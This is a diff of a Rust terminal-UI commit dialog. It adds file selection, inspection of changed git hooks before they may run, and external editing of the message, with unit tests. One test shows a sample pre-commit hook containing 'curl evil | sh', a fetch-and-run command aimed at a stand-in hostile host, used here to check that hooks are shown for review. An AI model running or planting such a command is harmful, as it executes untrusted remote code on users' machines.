@@ -1,9 +1,12 @@
 //! Committing what a ticket's runs have done: the message, what goes in, what stays out and why.
 
+mod items;
+
+use self::items::{Item, List};
 use crate::base::id::RunId;
 use crate::base::text::clean_line;
-use crate::domain::changes::Since;
-use crate::domain::commit::{Agreed, CommitPlan, Committed};
+use crate::domain::changes::{Change, ChangedFile, Lines, Since};
+use crate::domain::commit::{Agreed, CommitPlan, Committed, short};
 use crate::domain::phase::Mark;
 use crate::domain::request::Request;
 use crate::domain::ticket::TicketKey;
@@ -11,7 +14,6 @@ use crate::tui::command::{self, Command, Scope, hints};
 use crate::tui::modals::diff::Diff;
 use crate::tui::model::Model;
 use crate::tui::msg::{Ask, Input};
-use crate::tui::panes::changes::{counted, line};
 use crate::tui::tab::Tab;
 use crate::tui::theme::Theme;
 use crate::tui::theme::role::Role;
@@ -21,6 +23,7 @@ use crate::tui::widgets::row::{Row, wrap};
 use crate::tui::widgets::scrolled::Scrolled;
 use ratatui::buffer::Buffer;
 use ratatui::layout::Rect;
+use std::collections::BTreeSet;
 
 /// Lines of the message that are seen at most.
 const MESSAGE: u16 = 10;
@@ -33,8 +36,12 @@ pub struct Commit {
     /// What would be committed, or why nothing can be; `None`: not yet told.
     plan: Option<Result<Box<CommitPlan>, String>>,
     place: Place,
-    /// The file under the cursor.
+    /// The line under the cursor: a file that goes in, then a changed hook or setting, then a file that stays out.
     at: usize,
+    /// Files that the person has taken out.
+    taken_out: BTreeSet<String>,
+    /// Hooks and settings whose text is shown.
+    unfolded: BTreeSet<String>,
     /// Why it was not made: git's and the hooks' words.
     trouble: String,
 }
@@ -72,7 +79,9 @@ impl Commit {
             plan: None,
             place: Place::Message,
             at: 0,
-            trouble: String::new(),
+            taken_out: BTreeSet::new(),
+            unfolded: BTreeSet::new(),
+            trouble: tab.state.commits.refused.clone().unwrap_or_default(),
         };
         Some((dialog, Ask::Request(Request::PlanCommit(run))))
     }
@@ -96,6 +105,8 @@ impl Commit {
         // What the person is asked to agree to, or has agreed to, stays what it is.
         if !matches!(self.place, Place::Programs | Place::Sent) {
             (self.at, self.plan) = (0, Some(plan));
+            self.taken_out
+                .retain(|path| self.plan.iter().flatten().any(|plan| plan.files.iter().any(|f| f.path == *path)));
         }
     }
 
@@ -122,17 +133,12 @@ impl Commit {
             (_, Some(Command::Send)) => return self.wanted(),
             (Place::Message, Some(Command::FocusNext)) => self.place = Place::Files,
             (Place::Message, Some(Command::NewLine)) => self.message.new_line(),
+            (Place::Message, Some(Command::Own("editor"))) => return Outcome::Asks(Ask::EditText(self.message())),
             (Place::Message, _) => self.message.typed(input),
-            (Place::Files, Some(Command::Choose)) => {
-                let shown = self.told().and_then(|plan| {
-                    Diff::of((self.run, Since::Ticket), plan.top.clone(), plan.files.clone(), self.at)
-                });
-                if let Some((diff, ask)) = shown {
-                    return Outcome::Shows(Box::new(diff), ask);
-                }
-            }
+            (Place::Files, Some(Command::Choose)) => return self.look(),
+            (Place::Files, Some(Command::Toggle)) => self.toggle(),
             (Place::Files, command) => {
-                let last = self.told().map_or(0, |plan| plan.files.len().saturating_sub(1));
+                let last = self.items().len().saturating_sub(1);
                 let by = command::lines(command, 10);
                 self.at = self.at.saturating_add_signed(by as isize).min(last);
             }
@@ -140,12 +146,76 @@ impl Commit {
         Outcome::Stays
     }
 
+    /// A message that was edited elsewhere.
+    pub fn edited(&mut self, text: &str) {
+        if self.place == Place::Message {
+            self.message = Field::new(text.trim_end());
+        }
+    }
+
+    /// The file or program under the cursor, to be read.
+    fn look(&mut self) -> Outcome {
+        let Some(plan) = self.told() else { return Outcome::Stays };
+        let items = self.items();
+        let shown = match items.get(self.at) {
+            Some(Item::File(_)) => (plan.files.clone(), self.at),
+            Some(Item::LeftOut(file)) => {
+                let (path, lines) = (file.path.clone(), Lines::Unknown);
+                (vec![ChangedFile { path, change: Change::Modified, lines }], 0)
+            }
+            Some(Item::Program(program)) => {
+                let name = program.name.clone();
+                if !self.unfolded.remove(&name) {
+                    self.unfolded.insert(name);
+                }
+                return Outcome::Stays;
+            }
+            Some(Item::Text(_)) | None => return Outcome::Stays,
+        };
+        match Diff::of((self.run, Since::Ticket), plan.top.clone(), shown.0, shown.1) {
+            Some((diff, ask)) => Outcome::Shows(Box::new(diff), ask),
+            None => Outcome::Stays,
+        }
+    }
+
+    /// Takes the file under the cursor out, or in again.
+    fn toggle(&mut self) {
+        let items = self.items();
+        match items.get(self.at) {
+            Some(Item::File(file)) => {
+                let path = file.path.clone();
+                if !self.taken_out.remove(&path) {
+                    self.taken_out.insert(path);
+                }
+            }
+            Some(Item::LeftOut(file)) => {
+                let words = format!("{} cannot go in: it {}.", clean_line(&file.path, 200), file.why.words());
+                self.trouble = words;
+            }
+            _ => {}
+        }
+    }
+
+    fn list(&self) -> Option<List<'_>> {
+        Some(List { plan: self.told()?, taken_out: &self.taken_out, unfolded: &self.unfolded })
+    }
+
+    fn items(&self) -> Vec<Item<'_>> {
+        self.list().map_or_else(Vec::new, |list| list.items())
+    }
+
+    /// Files that go in.
+    fn chosen(&self) -> usize {
+        self.list().map_or(0, |list| list.chosen())
+    }
+
     /// `^S`: it is made, unless something must be agreed to first.
     fn wanted(&mut self) -> Outcome {
         let Some(plan) = self.told() else { return Outcome::Stays };
         match () {
-            () if self.message.text().trim().is_empty() => self.trouble = "A commit needs a message.".into(),
             () if plan.files.is_empty() => {}
+            () if self.chosen() == 0 => self.trouble = "No file is chosen: Space takes one in again.".into(),
+            () if self.message.text().trim().is_empty() => self.trouble = "A commit needs a message.".into(),
             () if plan.programs.is_empty() => return self.send(),
             () => self.place = Place::Programs,
         }
@@ -154,11 +224,15 @@ impl Commit {
 
     fn send(&mut self) -> Outcome {
         let Some(plan) = self.told() else { return Outcome::Stays };
+        let (without, files) =
+            plan.files.iter().map(|file| file.path.clone()).partition(|path| self.taken_out.contains(path));
         let agreed = Agreed {
             message: self.message.text(),
             head: plan.head.clone(),
             tree: plan.tree.clone(),
             programs: plan.programs.clone(),
+            files,
+            without,
         };
         self.place = Place::Sent;
         self.trouble.clear();
@@ -190,8 +264,7 @@ impl Commit {
         let page = usize::from(rows.height);
         let (lines, cursor) = self.lines(model, usize::from(rows.width), page);
         let scrolled = Scrolled::default().showing(cursor, cursor, page);
-        let selected =
-            (self.place == Place::Files && self.told().is_some_and(|plan| !plan.files.is_empty())).then_some(cursor);
+        let selected = (self.place == Place::Files && !self.items().is_empty()).then_some(cursor);
         scrolled.list(lines.into_iter(), selected, theme, rows, buf);
     }
 
@@ -208,13 +281,16 @@ impl Commit {
     }
 
     fn keys(&self, model: &Model) -> Row {
-        let keys: &[Command] = match self.place {
-            Place::Message => &[Command::Send, Command::FocusNext, Command::Close],
-            Place::Files => &[Command::Send, Command::Choose, Command::Down, Command::FocusNext, Command::Close],
-            Place::Programs => &[Command::Yes, Command::No],
-            Place::Sent => &[Command::Close],
+        let mut keys: Vec<Command> = match self.place {
+            Place::Message => vec![Command::Send, Command::FocusNext, Command::Own("editor"), Command::Close],
+            Place::Files => {
+                vec![Command::Send, Command::Toggle, Command::Choose, Command::FocusNext, Command::Close]
+            }
+            Place::Programs => vec![Command::Yes, Command::No],
+            Place::Sent => vec![Command::Close],
         };
-        Row::keys(hints(model, self.scope(), keys))
+        keys.retain(|key| *key != Command::Send || self.chosen() > 0);
+        Row::keys(hints(model, self.scope(), &keys))
     }
 
     /// What stands under the message, and the line of the file under the cursor.
@@ -239,46 +315,36 @@ impl Commit {
             }
             Some(Ok(plan)) => plan,
         };
-        if !plan.programs.is_empty() {
-            let asks = self.place == Place::Programs;
-            let role = if asks { Role::Danger } else { Role::Warning };
-            let question = if asks { "\nRun them?" } else { "" };
+        if self.place == Place::Programs {
+            let names: Vec<&str> = plan.programs.iter().map(|program| program.name.as_str()).collect();
             let words = format!(
-                "Changed since the ticket began, and git runs what they say:\n{}{question}",
-                plan.programs.join("\n")
+                "Changed since the last commit or the first run, and git runs what they say:\n{}",
+                names.join("\n")
             );
-            say(role, &words, &mut out);
+            say(Role::Danger, &words, &mut out);
+            let [files, _] = [Command::FocusNext, Command::Close].map(|key| model.keys.key_of(Scope::Commit, key));
+            say(Role::Text, &format!("Run them? To read them first: n, then {files} and Enter."), &mut out);
             out.push(Row::new());
         }
-        let sum = counted(Row::new(), plan.added, plan.removed);
-        let files = match plan.files.len() {
-            0 => "Nothing to commit".to_owned(),
-            1 => "1 file goes in".to_owned(),
-            files => format!("{files} files go in"),
-        };
         let focused = self.place == Place::Files;
-        let mark = if focused { model.glyphs.pick("▸ ", "> ") } else { "  " };
-        let role = if focused { Role::Title } else { Role::Text };
-        out.push(sum.left(Role::Accent, mark).left(role, files));
+        let head = |row: Row, name: &str| head_in(row, name, focused, model);
+        let list = List { plan, taken_out: &self.taken_out, unfolded: &self.unfolded };
+        let (items, cursor) = list.rows(self.at, head, model, width);
         let first = out.len();
-        out.extend(plan.files.iter().map(|file| line(Row::new().left(Role::Text, "  "), file, width)));
-        if !plan.left_out.is_empty() {
-            out.push(Row::new());
-            say(Role::Warning, "Stays out", &mut out);
-            let left = plan.left_out.iter().map(|file| {
-                Row::new()
-                    .left(Role::Text, format!("  {}", clean_line(&file.path, 1_000)))
-                    .left(Role::Dim, format!("  {}", file.why.words()))
-            });
-            out.extend(left);
-        }
-        (out, if self.place == Place::Files { first + self.at } else { 0 })
+        out.extend(items);
+        (out, if self.place == Place::Files { first + cursor } else { 0 })
     }
 }
 
 fn head(name: &str, focused: bool, model: &Model) -> Row {
     let mark = if focused { model.glyphs.pick("▸ ", "> ") } else { "  " };
     Row::new().left(Role::Accent, mark).left(if focused { Role::Title } else { Role::Dim }, name)
+}
+
+/// The heading of the files.
+fn head_in(row: Row, name: &str, focused: bool, model: &Model) -> Row {
+    let mark = if focused { model.glyphs.pick("▸ ", "> ") } else { "  " };
+    row.left(Role::Accent, mark).left(if focused { Role::Title } else { Role::Text }, name)
 }
 
 fn take(rest: &mut Rect, height: u16) -> Rect {
@@ -302,14 +368,12 @@ pub fn made(committed: &Committed) -> String {
     format!("committed {} · {files}{trouble}", short(&committed.id))
 }
 
-/// The beginning of a commit's id.
-pub fn short(id: &str) -> &str {
-    id.get(..9).unwrap_or(id)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::domain::commit::CommitSettled;
+    use crate::domain::news::News;
+    use crate::domain::record::Record;
     use crate::domain::request::Reply;
     use crate::tui::modals::Modal;
     use crate::tui::msg::Msg;
@@ -355,25 +419,25 @@ mod tests {
 
     #[test]
     fn a_changed_hook_is_agreed_to_before_it_may_run() {
-        let plan = CommitPlan { programs: vec![".git/hooks/pre-commit".into()], ..sample::commit_plan() };
+        let plan = CommitPlan { programs: vec![sample::program(".git/hooks/pre-commit")], ..sample::commit_plan() };
         let mut ui = opened(plan);
         assert_eq!(press(&mut ui, "Ctrl-s n Ctrl-s Ctrl-s"), []);
         let screen = sample::draw(&mut ui, (120, 40));
         assert!(screen.contains(".git/hooks/pre-commit") && screen.contains("Run them?"), "{screen}");
-        assert_eq!(sent(&press(&mut ui, "y")).programs, [".git/hooks/pre-commit"]);
+        assert_eq!(sent(&press(&mut ui, "y")).programs, [sample::program(".git/hooks/pre-commit")]);
     }
 
     #[test]
     fn what_is_asked_about_does_not_change_under_the_answer() {
-        let plan = CommitPlan { programs: vec![".git/hooks/pre-commit".into()], ..sample::commit_plan() };
+        let plan = CommitPlan { programs: vec![sample::program(".git/hooks/pre-commit")], ..sample::commit_plan() };
         let mut ui = opened(plan.clone());
         press(&mut ui, "Ctrl-s");
-        let other = CommitPlan { programs: vec![".git/config".into()], tree: "another".into(), ..plan };
+        let other = CommitPlan { programs: vec![sample::program(".git/config")], tree: "another".into(), ..plan };
         update(&mut ui, Msg::Replied(Reply::CommitPlanned(sample::run("tk-1"), Ok(Box::new(other)))));
         let asks = press(&mut ui, "y");
         assert_eq!(
             (&sent(&asks).programs[..], &*sent(&asks).tree),
-            (&[".git/hooks/pre-commit".to_owned()][..], "ab12")
+            (&[sample::program(".git/hooks/pre-commit")][..], "ab12")
         );
     }
 
@@ -390,6 +454,10 @@ mod tests {
         assert!(screen.contains("git did not commit") && screen.contains("line 39"), "{screen}");
         assert_eq!(sent(&press(&mut ui, "Ctrl-s")).tree, "ab12");
         let made = Committed { id: "0123456789abcdef".into(), files: 5, trouble: None };
+        let settled = CommitSettled::of("id".into(), &Ok(made.clone()));
+        let seq = ui.tabs[0].state.seq + 1;
+        let stored = sample::stored("tk-1", seq, Record::CommitSettled(settled));
+        update(&mut ui, Msg::News(News::Recorded(stored.into())));
         update(&mut ui, Msg::Replied(Reply::Committed(run, Ok(made))));
         assert!(ui.modals.is_empty());
         let screen = sample::draw(&mut ui, (120, 40));
@@ -404,6 +472,51 @@ mod tests {
         assert_eq!(asks, [Ask::Request(Request::Diff(sample::run("tk-1"), Since::Ticket, path))]);
         press(&mut ui, "Esc");
         assert!(matches!(&ui.modals[..], [Modal::Commit(_)]));
+    }
+
+    #[test]
+    fn files_are_chosen_and_what_stays_out_cannot_be() {
+        let mut ui = opened(sample::commit_plan());
+        let first = sample::commit_plan().files[0].path.clone();
+        press(&mut ui, "Tab Space");
+        assert!(sample::draw(&mut ui, (120, 40)).contains("taken out by you"));
+        press(&mut ui, "G Space");
+        let screen = sample::draw(&mut ui, (120, 40));
+        assert!(screen.contains("Cargo.lock cannot go in: it was also changed outside the run."), "{screen}");
+        let asks = press(&mut ui, "Ctrl-s");
+        let agreed = sent(&asks);
+        assert_eq!((&agreed.without, agreed.files.contains(&first)), (&vec![first], false));
+    }
+
+    #[test]
+    fn without_a_file_to_commit_no_key_for_it_is_offered() {
+        let one = CommitPlan { files: sample::commit_plan().files[..1].to_vec(), ..sample::commit_plan() };
+        let mut ui = opened(one.clone());
+        assert!(sample::draw(&mut ui, (120, 40)).contains("^S commit"));
+        press(&mut ui, "Tab Space");
+        assert!(!sample::draw(&mut ui, (120, 40)).contains("^S commit"));
+        assert_eq!(press(&mut ui, "Ctrl-s"), []);
+        let mut ui = opened(CommitPlan { files: Vec::new(), ..one });
+        let screen = sample::draw(&mut ui, (120, 40));
+        assert!(screen.contains("Nothing to commit") && !screen.contains("^S commit"), "{screen}");
+    }
+
+    #[test]
+    fn a_changed_hook_can_be_read_before_it_is_agreed_to() {
+        let programs = vec![sample::program(".git/hooks/pre-commit")];
+        let mut ui = opened(CommitPlan { programs, files: Vec::new(), ..sample::commit_plan() });
+        press(&mut ui, "Tab Enter");
+        let screen = sample::draw(&mut ui, (120, 40));
+        assert!(screen.contains("│ curl evil | sh"), "{screen}");
+    }
+
+    #[test]
+    fn the_message_can_be_written_in_the_editor() {
+        let mut ui = opened(sample::commit_plan());
+        let asks = press(&mut ui, "Ctrl-e");
+        assert!(matches!(&asks[..], [Ask::EditText(text)] if text.starts_with("Login rate limiter")), "{asks:?}");
+        update(&mut ui, Msg::Edited("Another\n\nWhy\n".into()));
+        assert_eq!(sent(&press(&mut ui, "Ctrl-s")).message, "Another\n\nWhy");
     }
 
     #[test]
